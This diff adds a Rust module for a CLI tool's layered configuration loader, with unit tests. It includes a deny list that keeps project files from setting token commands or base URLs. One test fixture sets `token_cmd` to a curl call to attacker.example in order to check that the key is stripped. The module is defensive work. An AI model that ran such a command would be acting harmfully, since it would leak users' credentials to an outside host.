@@ -0,0 +1,382 @@
+//! Builds the effective configuration by deep merging, from lowest to
+//! highest precedence: `/etc/ruskgpt/config.toml`, the user config, every
+//! `.ruskgpt.toml` from the filesystem root down to the current directory,
+//! `RUSKGPT_*` environment variables and command line flags.
+
+use clap::ArgMatches;
+use log::warn;
+use std::collections::BTreeMap;
+use std::error::Error;
+use std::fmt;
+use std::fs;
+use std::path::{Path, PathBuf};
+use toml::{Table, Value};
+use toml_edit::DocumentMut;
+use crate::config::Config;
+use crate::config_migration;
+
+pub const PROJECT_CONFIG_FILE: &str = ".ruskgpt.toml";
+const ENV_PREFIX: &str = "RUSKGPT_";
+
+/// Adapter keys a project file may not set: a cloned repository must not be
+/// able to run commands or send the user's token to a server of its choice.
+const PROJECT_DENIED_KEYS: &[&str] = &["token", "token_cmd", "token_file", "base_url"];
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Layer {
+    System,
+    User,
+    Project,
+    Env,
+    Cli,
+}
+
+/// Where a value came from: the layer and, for files, the path.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Origin {
+    pub layer: Layer,
+    pub path: Option<PathBuf>,
+}
+
+#[derive(Debug, Default)]
+pub struct LayeredConfig {
+    pub merged: Table,
+    /// The origin of every leaf value, keyed by dotted path.
+    pub origins: BTreeMap<String, Origin>,
+    /// Generation flags given on the command line, such as `--model "gpt-4o"`.
+    /// They apply to the selected adapter after the merge.
+    pub applied_after: Vec<String>,
+}
+
+impl fmt::Display for Layer {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Layer::System => write!(f, "system"),
+            Layer::User => write!(f, "user"),
+            Layer::Project => write!(f, "project"),
+            Layer::Env => write!(f, "env"),
+            Layer::Cli => write!(f, "cli"),
+        }
+    }
+}
+
+impl fmt::Display for Origin {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match &self.path {
+            Some(path) => write!(f, "{} ({})", self.layer, path.display()),
+            None => write!(f, "{}", self.layer),
+        }
+    }
+}
+
+impl LayeredConfig {
+    /// Loads every layer that applies. `user_config` is the file chosen by
+    /// `--config` or the default location.
+    pub fn load(matches: &ArgMatches, user_config: &Path) -> Result<Self, Box<dyn Error>> {
+        let mut layered = LayeredConfig::default();
+
+        if let Some(path) = system_config_path().filter(|path| path.exists()) {
+            layered.merge_file(Layer::System, &path)?;
+        }
+        layered.merge_file(Layer::User, user_config)?;
+        if let Ok(cwd) = std::env::current_dir() {
+            for path in project_config_paths(&cwd) {
+                layered.merge_file(Layer::Project, &path)?;
+            }
+        }
+        layered.merge(env_layer(std::env::vars()), Origin { layer: Layer::Env, path: None });
+        layered.merge(cli_layer(matches), Origin { layer: Layer::Cli, path: None });
+        layered.applied_after = applied_after_merge(matches);
+
+        Ok(layered)
+    }
+
+    pub fn config(&self) -> Result<Config, Box<dyn Error>> {
+        Ok(Value::Table(self.merged.clone()).try_into()?)
+    }
+
+    fn merge_file(&mut self, layer: Layer, path: &Path) -> Result<(), Box<dyn Error>> {
+        let content = fs::read_to_string(path)
+            .map_err(|e| format!("Failed to read {}: {}", path.display(), e))?;
+        let mut doc: DocumentMut = content.parse()
+            .map_err(|e| format!("{}: {}", path.display(), e))?;
+        let has_version = doc.contains_key("version");
+        config_migration::migrate(&mut doc);
+        let mut table: Table = toml::from_str(&doc.to_string())
+            .map_err(|e| format!("{}: {}", path.display(), e))?;
+        if !has_version {
+            // Only moves adapters around; a partial file doesn't pin the version
+            table.remove("version");
+        }
+
+        if layer == Layer::Project {
+            for key in strip_denied_keys(&mut table) {
+                warn!("Ignoring {} in project config {}", key, path.display());
+                eprintln!("Warning: ignoring `{}` in {}; set it in your user config instead", key, path.display());
+            }
+        }
+        self.merge(table, Origin { layer, path: Some(path.to_path_buf()) });
+        Ok(())
+    }
+
+    pub fn merge(&mut self, layer: Table, origin: Origin) {
+        merge_table(&mut self.merged, layer, "", &origin, &mut self.origins);
+    }
+
+    /// Every effective value as `dotted.key = value`, optionally followed by
+    /// the layer it came from.
+    pub fn show(&self, with_origin: bool) -> String {
+        let mut lines = Vec::new();
+        let mut leaves = Vec::new();
+        collect_leaves(&self.merged, "", &mut leaves);
+        for (path, value) in leaves {
+            match self.origins.get(&path).filter(|_| with_origin) {
+                Some(origin) => lines.push(format!("{} = {}  # {}", path, value, origin)),
+                None => lines.push(format!("{} = {}", path, value)),
+            }
+        }
+        if with_origin {
+            lines.push(format!(
+                "# {} are applied to the selected adapter after this merge",
+                APPLIED_AFTER_MERGE.iter().map(|id| format!("--{}", id)).collect::<Vec<_>>().join(", ")
+            ));
+            if !self.applied_after.is_empty() {
+                lines.push(format!("# given: {}", self.applied_after.join(", ")));
+            }
+        }
+        lines.join("\n")
+    }
+}
+
+pub fn system_config_path() -> Option<PathBuf> {
+    if cfg!(unix) {
+        Some(PathBuf::from("/etc/ruskgpt/config.toml"))
+    } else {
+        None
+    }
+}
+
+/// Every `.ruskgpt.toml` between the filesystem root and `start`, outermost
+/// first so that the closest file wins.
+pub fn project_config_paths(start: &Path) -> Vec<PathBuf> {
+    let mut paths: Vec<PathBuf> = start.ancestors()
+        .map(|dir| dir.join(PROJECT_CONFIG_FILE))
+        .filter(|path| path.is_file())
+        .collect();
+    paths.reverse();
+    paths
+}
+
+/// `RUSKGPT_ADAPTERS__WORK__DEFAULT_MODEL=gpt-4o` sets
+/// `adapters.work.default_model`. Path segments are separated by `__` and
+/// lowercased; variables without a `__` are not config keys.
+pub fn env_layer<I: IntoIterator<Item = (String, String)>>(vars: I) -> Table {
+    let mut table = Table::new();
+    for (name, raw) in vars {
+        let Some(key) = name.strip_prefix(ENV_PREFIX) else { continue };
+        let parts: Vec<String> = key.split("__").map(str::to_lowercase).collect();
+        if parts.len() < 2 || parts.iter().any(String::is_empty) {
+            continue;
+        }
+        insert_path(&mut table, &parts, parse_env_value(&raw));
+    }
+    table
+}
+
+/// Flags that are not part of the CLI layer. A role can pick its own adapter
+/// and settings, and these flags must still win over it, so they are applied
+/// once the adapter is known.
+const APPLIED_AFTER_MERGE: &[&str] = &["role", "model", "temperature", "top-p", "max-tokens", "seed", "stop", "system"];
+
+fn applied_after_merge(matches: &ArgMatches) -> Vec<String> {
+    let mut flags = Vec::new();
+    for id in APPLIED_AFTER_MERGE {
+        let Some(values) = matches.try_get_raw(id).ok().flatten() else { continue };
+        for value in values {
+            flags.push(format!("--{} {:?}", id, value.to_string_lossy()));
+        }
+    }
+    flags
+}
+
+fn cli_layer(matches: &ArgMatches) -> Table {
+    let mut table = Table::new();
+    if let Some(adapter) = matches.get_one::<String>("adapter") {
+        insert_path(&mut table, &["default".to_string(), "adapter".to_string()], Value::String(adapter.clone()));
+    }
+    table
+}
+
+/// Reads a value as TOML (`0.5`, `true`, `["a"]`), falling back to a string.
+fn parse_env_value(raw: &str) -> Value {
+    toml::from_str::<Table>(&format!("value = {}", raw))
+        .ok()
+        .and_then(|mut table| table.remove("value"))
+        .unwrap_or_else(|| Value::String(raw.to_string()))
+}
+
+fn insert_path(table: &mut Table, parts: &[String], value: Value) {
+    let (last, parents) = parts.split_last().unwrap();
+    let mut table = table;
+    for part in parents {
+        let entry = table.entry(part.clone()).or_insert_with(|| Value::Table(Table::new()));
+        if !entry.is_table() {
+            *entry = Value::Table(Table::new());
+        }
+        table = entry.as_table_mut().unwrap();
+    }
+    table.insert(last.clone(), value);
+}
+
+fn strip_denied_keys(table: &mut Table) -> Vec<String> {
+    let mut removed = Vec::new();
+    if let Some(Value::Table(adapters)) = table.get_mut("adapters") {
+        for (name, adapter) in adapters.iter_mut() {
+            let Value::Table(adapter) = adapter else { continue };
+            for key in PROJECT_DENIED_KEYS {
+                if adapter.remove(*key).is_some() {
+                    removed.push(format!("adapters.{}.{}", name, key));
+                }
+            }
+        }
+    }
+    removed
+}
+
+fn merge_table(base: &mut Table, layer: Table, prefix: &str, origin: &Origin, origins: &mut BTreeMap<String, Origin>) {
+    for (key, value) in layer {
+        let path = if prefix.is_empty() { key.clone() } else { format!("{}.{}", prefix, key) };
+        match (base.get_mut(&key), value) {
+            (Some(Value::Table(base_table)), Value::Table(table)) => {
+                merge_table(base_table, table, &path, origin, origins);
+            },
+            (_, value) => {
+                // Replaced outright: drop the origins of whatever was there
+                let nested = format!("{}.", path);
+                origins.retain(|existing, _| existing != &path && !existing.starts_with(&nested));
+                record_origins(&value, &path, origin, origins);
+                base.insert(key, value);
+            },
+        }
+    }
+}
+
+fn record_origins(value: &Value, path: &str, origin: &Origin, origins: &mut BTreeMap<String, Origin>) {
+    match value {
+        Value::Table(table) => {
+            for (key, value) in table {
+                record_origins(value, &format!("{}.{}", path, key), origin, origins);
+            }
+        },
+        _ => {
+            origins.insert(path.to_string(), origin.clone());
+        },
+    }
+}
+
+fn collect_leaves(table: &Table, prefix: &str, leaves: &mut Vec<(String, Value)>) {
+    for (key, value) in table {
+        let path = if prefix.is_empty() { key.clone() } else { format!("{}.{}", prefix, key) };
+        match value {
+            Value::Table(table) => collect_leaves(table, &path, leaves),
+            _ => leaves.push((path, value.clone())),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn file_origin(layer: Layer, path: &str) -> Origin {
+        Origin { layer, path: Some(PathBuf::from(path)) }
+    }
+
+    #[test]
+    fn test_deep_merge_and_origins() {
+        let mut layered = LayeredConfig::default();
+        layered.merge(toml::from_str(r#"
+            [default]
+            adapter = "openai_adapter"
+            [adapters.openai_adapter]
+            type = "OpenAI"
+            default_model = "gpt-4o"
+            temperature = 0.7
+            stop = ["a", "b"]
+        "#).unwrap(), file_origin(Layer::User, "/home/me/.ruskgpt/config.toml"));
+        layered.merge(toml::from_str(r#"
+            [default]
+            system_prompt = "Answer with Rust examples."
+            [adapters.openai_adapter]
+            default_model = "gpt-4o-mini"
+            stop = ["c"]
+        "#).unwrap(), file_origin(Layer::Project, "/src/app/.ruskgpt.toml"));
+        layered.merge(env_layer([("RUSKGPT_ADAPTERS__OPENAI_ADAPTER__TEMPERATURE".to_string(), "0.2".to_string())]), Origin { layer: Layer::Env, path: None });
+
+        assert_eq!(layered.show(true), [
+            "adapters.openai_adapter.default_model = \"gpt-4o-mini\"  # project (/src/app/.ruskgpt.toml)",
+            "adapters.openai_adapter.stop = [\"c\"]  # project (/src/app/.ruskgpt.toml)",
+            "adapters.openai_adapter.temperature = 0.2  # env",
+            "adapters.openai_adapter.type = \"OpenAI\"  # user (/home/me/.ruskgpt/config.toml)",
+            "default.adapter = \"openai_adapter\"  # user (/home/me/.ruskgpt/config.toml)",
+            "default.system_prompt = \"Answer with Rust examples.\"  # project (/src/app/.ruskgpt.toml)",
+            "# --role, --model, --temperature, --top-p, --max-tokens, --seed, --stop, --system are applied to the selected adapter after this merge",
+        ].join("\n"));
+    }
+
+    #[test]
+    fn test_flags_applied_after_merge() {
+        let matches = crate::cli::build_cli()
+            .try_get_matches_from(["ruskgpt", "--adapter", "work", "--model", "gpt-4o", "--stop", "END", "--stop", "STOP", "config", "show"])
+            .unwrap();
+        let mut layered = LayeredConfig::default();
+        layered.merge(cli_layer(&matches), Origin { layer: Layer::Cli, path: None });
+        layered.applied_after = applied_after_merge(&matches);
+
+        let shown = layered.show(true);
+        assert!(shown.starts_with("default.adapter = \"work\"  # cli\n# --role, --model, "), "{}", shown);
+        assert!(shown.ends_with("\n# given: --model \"gpt-4o\", --stop \"END\", --stop \"STOP\""), "{}", shown);
+        assert_eq!(layered.show(false), "default.adapter = \"work\"");
+    }
+
+    #[test]
+    fn test_env_layer() {
+        let table = env_layer([
+            ("RUSKGPT_DEFAULT__ADAPTER".to_string(), "work".to_string()),
+            ("RUSKGPT_ADAPTERS__WORK__MAX_TOKENS".to_string(), "512".to_string()),
+            ("RUSKGPT_TEST_KEY".to_string(), "ignored".to_string()),
+            ("HOME".to_string(), "/home/me".to_string()),
+        ]);
+        assert_eq!(table["default"]["adapter"].as_str(), Some("work"));
+        assert_eq!(table["adapters"]["work"]["max_tokens"].as_integer(), Some(512));
+        assert_eq!(table.len(), 2);
+    }
+
+    #[test]
+    fn test_project_files_walk_up_and_drop_secrets() {
+        let root = std::env::temp_dir().join(format!("ruskgpt-layers-{}", std::process::id()));
+        let nested = root.join("crate/src");
+        fs::create_dir_all(&nested).unwrap();
+        fs::write(root.join(PROJECT_CONFIG_FILE), "[default]\nadapter = \"outer\"\n").unwrap();
+        fs::write(root.join("crate").join(PROJECT_CONFIG_FILE), r#"
+            [default]
+            adapter = "inner"
+            [adapters.inner]
+            token_cmd = "curl https://attacker.example"
+            default_model = "gpt-4o"
+        "#).unwrap();
+
+        let paths = project_config_paths(&nested);
+        assert_eq!(paths, vec![root.join(PROJECT_CONFIG_FILE), root.join("crate").join(PROJECT_CONFIG_FILE)]);
+
+        let mut layered = LayeredConfig::default();
+        for path in &paths {
+            layered.merge_file(Layer::Project, path).unwrap();
+        }
+        fs::remove_dir_all(&root).unwrap();
+
+        assert_eq!(layered.merged["default"]["adapter"].as_str(), Some("inner"));
+        assert!(layered.merged["adapters"]["inner"].get("token_cmd").is_none());
+        assert_eq!(layered.merged["adapters"]["inner"]["default_model"].as_str(), Some("gpt-4o"));
+    }
+}